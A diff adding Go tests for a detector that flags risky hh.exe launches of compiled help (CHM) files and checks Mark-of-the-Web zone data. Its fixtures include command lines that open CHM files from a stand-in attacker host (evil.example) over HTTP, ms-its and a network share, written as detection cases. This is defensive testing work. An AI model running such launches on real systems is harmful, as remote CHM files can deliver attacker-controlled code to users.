@@ -0,0 +1,80 @@
+package main
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+)
+
+func TestCheckHH(t *testing.T) {
+	tests := []struct {
+		name      string
+		cmdLine   string
+		protocol  string
+		location  string
+		indicator string
+	}{
+		{"help file from the internet", `hh.exe http://evil.example/help.chm`, "", "http://evil.example/help.chm", "chm_url"},
+		{"ms-its over https", `hh.exe ms-its:https://evil.example/a.chm::/index.html`, "ms-its", "https://evil.example/a.chm", "chm_url"},
+		{"share", `hh.exe \\evil.example\share\manual.chm`, "", `\\evil.example\share\manual.chm`, "chm_path"},
+		{"downloads", `hh.exe C:\Users\alice\Downloads\invoice.chm`, "", `C:\Users\alice\Downloads\invoice.chm`, "chm_path"},
+		{"temp through a variable", `hh.exe "%TEMP%\7zO1A2B\doc.chm"`, "", `C:\Users\tester\AppData\Local\Temp\7zO1A2B\doc.chm`, "chm_path"},
+		{"mk:@MSITStore in AppData", `hh.exe mk:@MSITStore:C:\Users\alice\AppData\Roaming\x.chm::/run.htm`, "mk:@msitstore", `C:\Users\alice\AppData\Roaming\x.chm`, "chm_path"},
+		{"unquoted spaces", `hh.exe C:\Users\alice\Downloads\user guide.chm`, "", `C:\Users\alice\Downloads\user guide.chm`, "chm_path"},
+		{"decompile from downloads", `hh.exe -decompile C:\out C:\Users\alice\Downloads\a.chm`, "", `C:\Users\alice\Downloads\a.chm`, "chm_path"},
+		// Help shipped with Windows and applications
+		{"Windows help", `hh.exe C:\Windows\Help\mui\0409\mmc.CHM`, "", `C:\Windows\Help\mui\0409\mmc.CHM`, ""},
+		{"application help topic", `hh.exe ms-its:C:\Program Files\Vendor\Tool\help.chm::/topics/start.htm`, "ms-its", `C:\Program Files\Vendor\Tool\help.chm`, ""},
+		{"mapped topic", `hh.exe -mapid 1000 "C:\Program Files (x86)\Vendor\app.chm"`, "", `C:\Program Files (x86)\Vendor\app.chm`, ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			event := evaluate(`C:\Windows\hh.exe`, tt.cmdLine)
+			chm := event.CHM
+			if chm == nil {
+				t.Fatal("the target was not parsed")
+			}
+			if location := chm.URL + chm.Path; chm.Protocol != tt.protocol || location != tt.location {
+				t.Errorf("protocol %q, location %q; want %q, %q", chm.Protocol, location, tt.protocol, tt.location)
+			}
+			for _, typ := range []string{"chm_url", "chm_path"} {
+				if got := hasIndicator(event, typ, ""); got != (typ == tt.indicator) {
+					t.Errorf("%s indicator %v, want %v (%s)", typ, got, typ == tt.indicator, event.Reason)
+				}
+			}
+			if tt.indicator == "chm_url" && !hasIOC(&event, "evil.example") {
+				t.Errorf("IOCs %+v, want the host", event.IOCs)
+			}
+		})
+	}
+}
+
+func TestCheckHHMarkOfTheWeb(t *testing.T) {
+	dir := t.TempDir()
+	downloaded := filepath.Join(dir, "guide.chm")
+	local := filepath.Join(dir, "local.chm")
+	for _, path := range []string{downloaded, local} {
+		if err := os.WriteFile(path, []byte("ITSF"), 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	// Writing to name:stream creates the alternate data stream on NTFS
+	motw := "[ZoneTransfer]\r\nZoneId=3\r\nHostUrl=https://evil.example/guide.chm\r\n"
+	if err := os.WriteFile(downloaded+":Zone.Identifier", []byte(motw), 0o600); err != nil {
+		t.Fatal(err)
+	}
+
+	for _, tt := range []struct {
+		path   string
+		marked bool
+	}{{downloaded, true}, {local, false}} {
+		event := ProcessEvent{CommandLine: `hh.exe "` + tt.path + `"`}
+		checkHH(&DetectionContext{Rules: currentRules(), ExecName: "hh.exe", Live: true}, &event)
+		if marked := hasIndicator(event, "mark_of_the_web", "https://evil.example/guide.chm"); marked != tt.marked {
+			t.Errorf("%s: mark of the web indicator %v, want %v", tt.path, marked, tt.marked)
+		}
+		if tt.marked && (event.CHM.ZoneID == nil || *event.CHM.ZoneID != 3 || event.Severity < SeverityHigh) {
+			t.Errorf("%s: zone %v at %v, want zone 3 at high", tt.path, event.CHM.ZoneID, event.Severity)
+		}
+	}
+}